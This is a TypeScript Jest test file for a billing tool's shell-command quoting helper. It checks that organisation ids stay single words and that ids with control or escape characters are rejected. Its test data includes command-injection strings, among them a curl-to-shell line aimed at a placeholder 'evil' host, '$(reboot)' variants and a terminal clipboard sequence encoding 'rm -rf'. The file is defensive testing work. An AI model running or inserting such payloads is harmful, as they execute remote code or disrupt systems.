import { describe, expect, test } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { command, option, shellCommand } from '../../shared/billing/basics/command.js';

/** Commands that people copy: whatever an id holds, a shell reads it as that one word. */

/** The words that a shell makes of a command. */
function wordsOf(text: string): string[] {
  const out = execFileSync('sh', ['-c', `for word in ${text}; do printf '%s\\0' "$word"; done`], { encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

const READ_AS_THEY_ARE = [
  '83e8db2a-ea2d-57e1-85f2-5a55ac83bac2',
  'contoso',
  'Contoso Dental Group',
  "O'Neill & Sons",
  '--all',
  'x; curl -s http://evil | sh #',
  '$(reboot)',
  '`reboot`',
  '$HOME',
  'price $HOME!',
  'x'.repeat(300),
  '"; reboot; "',
  '!history',
  'a\\b',
  '~root',
  '*',
  '%PATH%',
  'Ærø 電子',
];

describe('a shell reads every word of a command as it was given', () => {
  test.each(READ_AS_THEY_ARE)('%s', (id) => {
    expect(wordsOf(command('rerun', '2025-10', '--organization', id))).toEqual([
      'billing',
      'rerun',
      '2025-10',
      '--organization',
      id,
    ]);
  });
});

// The person fills it in.
test.each([
  ['a line break', 'a\nbilling approve 2025-10 --all'],
  ['a terminal sequence', 'a\u001b]52;c;cm0gLXJm\u0007'],
  ['a C1 sequence', 'a\u009b31m'],
  ['a right-to-left override', 'a\u202e b'],
  ['a zero-width space', 'con\u200btoso'],
  ['a no-break space', 'con\u00a0toso'],
  ['half a character', 'a\udc00'],
  ['9,000 blanks', ' '.repeat(9_000)],
])('a command does not name an id with %s', (_, id) => {
  expect(command('skip', '2025-10', '--organization', id)).toBe('billing skip 2025-10 --organization ID');
});

test('a command takes no id with a dash for an option', () => {
  expect(command('approve', '2025-10', ...option('--organization', '--all'))).toBe(
    'billing approve 2025-10 --organization=--all',
  );
});

test('commands of other programs are quoted alike', () => {
  expect(shellCommand('temporal', 'operator', 'namespace', 'describe', '-n', 'a b')).toBe(
    'temporal operator namespace describe -n "a b"',
  );
});
